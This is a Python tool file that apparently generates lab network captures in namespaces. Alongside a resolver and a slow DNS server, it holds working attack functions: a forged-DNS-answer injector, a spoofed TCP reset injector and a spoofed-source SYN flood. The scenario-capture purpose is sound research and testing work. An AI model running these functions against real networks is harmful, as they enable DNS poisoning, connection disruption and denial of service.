#!/usr/bin/env python3
"""tools.py: the small traffic tools of the scenario captures (standard
library only). Each runs inside a network namespace made by mkcaptures.sh.

  tools.py resolve SERVER NAME... [--tries N] [--wait S] [--type A]
  tools.py inject-dns IFACE NAME_SUFFIX FORGED_ADDR     (on the gateway)
  tools.py inject-rst IFACE SERVER_ADDR PORT TTL AFTER_BYTES (on the gateway)
  tools.py synflood DST PORT COUNT PPS                  (spoofed sources)
  tools.py slowdns ADDR PORT DELAY NAME=IP...           (a slow authoritative)
"""
import random
import socket
import struct
import sys
import time


def qname_wire(name):
    out = b""
    for label in name.rstrip(".").split("."):
        out += bytes([len(label)]) + label.encode()
    return out + b"\0"


def resolve(server, names, tries=2, wait=2.0, qtype=1):
    """Sends one A query per name (retrying), prints what came back."""
    for name in names:
        qid = random.randrange(65536)
        q = struct.pack("!HHHHHH", qid, 0x0100, 1, 0, 0, 0) + qname_wire(name) + struct.pack("!HH", qtype, 1)
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.settimeout(wait)
        got = None
        for _ in range(tries):
            s.sendto(q, (server, 53))
            try:
                got, _ = s.recvfrom(4096)
                break
            except (socket.timeout, ConnectionRefusedError, OSError):
                continue
        # Stay a moment so that a second (raced) answer is captured too.
        s.settimeout(0.3)
        try:
            s.recvfrom(4096)
        except (socket.timeout, OSError):
            pass
        s.close()
        rc = got[3] & 15 if got else None
        print("%s rcode=%s" % (name, rc))


def csum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    s = (s >> 16) + (s & 0xffff)
    s += s >> 16
    return ~s & 0xffff


def ip4(src, dst, proto, payload, ttl=64, ipid=None):
    ipid = random.randrange(65536) if ipid is None else ipid
    h = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(payload), ipid, 0, ttl, proto, 0,
                    socket.inet_aton(src), socket.inet_aton(dst))
    h = h[:10] + struct.pack("!H", csum(h)) + h[12:]
    return h + payload


def tcp_seg(src, dst, sport, dport, seq, ack, flags, win=0):
    h = struct.pack("!HHIIBBHHH", sport, dport, seq, ack, 5 << 4, flags, win, 0, 0)
    pseudo = struct.pack("!4s4sBBH", socket.inet_aton(src), socket.inet_aton(dst), 0, 6, len(h))
    c = csum(pseudo + h)
    return h[:16] + struct.pack("!H", c) + h[18:]


def raw_sender():
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    s.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
    return s


def sniff(iface):
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.ntohs(0x0003))
    s.bind((iface, 0))
    return s


def parse_eth_ip(frame):
    if len(frame) < 34 or frame[12:14] != b"\x08\x00":
        return None
    ip = frame[14:]
    ihl = (ip[0] & 15) * 4
    return ip, ihl


def inject_dns(iface, suffix, forged, limit=10, duration=30):
    """Answers queries for names under suffix with a forged A record."""
    rx, tx = sniff(iface), raw_sender()
    end = time.time() + duration
    rx.settimeout(1)
    n = 0
    while time.time() < end and n < limit:
        try:
            frame = rx.recv(65535)
        except socket.timeout:
            continue
        p = parse_eth_ip(frame)
        if not p:
            continue
        ip, ihl = p
        if ip[9] != 17:
            continue
        udp = ip[ihl:]
        sport, dport = struct.unpack("!HH", udp[:4])
        dns = udp[8:]
        if dport != 53 or len(dns) < 12 or dns[2] & 0x80:
            continue
        # question name
        i, labels = 12, []
        while i < len(dns) and dns[i]:
            labels.append(dns[i + 1:i + 1 + dns[i]].decode(errors="replace"))
            i += 1 + dns[i]
        qname = ".".join(labels)
        qend = i + 5
        if not qname.endswith(suffix):
            continue
        src, dst = socket.inet_ntoa(ip[12:16]), socket.inet_ntoa(ip[16:20])
        ans = (struct.pack("!HHHHHH", struct.unpack("!H", dns[:2])[0], 0x8180, 1, 1, 0, 0) +
               dns[12:qend] + b"\xc0\x0c" + struct.pack("!HHIH", 1, 1, 300, 4) + socket.inet_aton(forged))
        u = struct.pack("!HHHH", 53, sport, 8 + len(ans), 0) + ans
        tx.sendto(ip4(dst, src, 17, u, ttl=64), (src, 0))
        n += 1
    print("inject-dns: forged %d answers" % n)


def inject_rst(iface, server, port, ttl, after_bytes, duration=30):
    """Once a server->client stream passed after_bytes, sends the client a
    reset spoofed from the server, with the given TTL."""
    rx, tx = sniff(iface), raw_sender()
    end = time.time() + duration
    rx.settimeout(1)
    seen = {}
    while time.time() < end:
        try:
            frame = rx.recv(65535)
        except socket.timeout:
            continue
        p = parse_eth_ip(frame)
        if not p:
            continue
        ip, ihl = p
        if ip[9] != 6:
            continue
        src, dst = socket.inet_ntoa(ip[12:16]), socket.inet_ntoa(ip[16:20])
        tcp = ip[ihl:]
        sport, dport, seq, ack = struct.unpack("!HHII", tcp[:12])
        doff = (tcp[12] >> 4) * 4
        plen = len(ip) - ihl - doff
        if src != server or sport != port or plen <= 0:
            continue
        key = (dst, dport)
        seen[key] = seen.get(key, 0) + plen
        if seen[key] >= after_bytes:
            seg = tcp_seg(src, dst, sport, dport, seq + plen, 0, 0x04)
            tx.sendto(ip4(src, dst, 6, seg, ttl=ttl), (dst, 0))
            print("inject-rst: reset sent to %s:%d" % key)
            return


def synflood(dst, port, count, pps):
    """count SYNs from random spoofed sources in 10.0.0.0/8, at pps."""
    tx = raw_sender()
    gap = 1.0 / pps
    for i in range(count):
        src = "10.%d.%d.%d" % (random.randrange(256), random.randrange(256), random.randrange(1, 255))
        seg = tcp_seg(src, dst, random.randrange(1024, 65535), port, random.randrange(1 << 32), 0, 0x02, 64240)
        tx.sendto(ip4(src, dst, 6, seg, ttl=64), (dst, 0))
        time.sleep(gap)
    print("synflood: %d SYNs sent" % count)


def slowdns(addr, port, delay, records, duration=60):
    """A tiny authoritative answering A queries from records after delay."""
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind((addr, port))
    s.settimeout(1)
    end = time.time() + duration
    while time.time() < end:
        try:
            q, peer = s.recvfrom(4096)
        except socket.timeout:
            continue
        if len(q) < 12:
            continue
        i, labels = 12, []
        while i < len(q) and q[i]:
            labels.append(q[i + 1:i + 1 + q[i]].decode(errors="replace").lower())
            i += 1 + q[i]
        qend = i + 5
        qtype = struct.unpack("!H", q[i + 1:i + 3])[0] if i + 3 <= len(q) else 0
        name = ".".join(labels)
        addr_ = records.get(name)
        time.sleep(delay)
        an = 1 if addr_ and qtype == 1 else 0
        r = struct.pack("!HHHHHH", struct.unpack("!H", q[:2])[0], 0x8400, 1, an, 0, 0) + q[12:qend]
        if an:
            r += b"\xc0\x0c" + struct.pack("!HHIH", 1, 1, 300, 4) + socket.inet_aton(addr_)
        s.sendto(r, peer)


def main(argv):
    random.seed(7)
    cmd = argv[1]
    if cmd == "resolve":
        args, tries, wait = [], 2, 2.0
        it = iter(argv[3:])
        for a in it:
            if a == "--tries":
                tries = int(next(it))
            elif a == "--wait":
                wait = float(next(it))
            else:
                args.append(a)
        random.seed()
        resolve(argv[2], args, tries, wait)
    elif cmd == "inject-dns":
        inject_dns(argv[2], argv[3], argv[4])
    elif cmd == "inject-rst":
        inject_rst(argv[2], argv[3], int(argv[4]), int(argv[5]), int(argv[6]))
    elif cmd == "slowdns":
        recs = dict(a.split("=", 1) for a in argv[5:])
        slowdns(argv[2], int(argv[3]), float(argv[4]), recs)
    elif cmd == "synflood":
        synflood(argv[2], int(argv[3]), int(argv[4]), int(argv[5]))
    else:
        sys.exit("unknown command " + cmd)


if __name__ == "__main__":
    main(sys.argv)
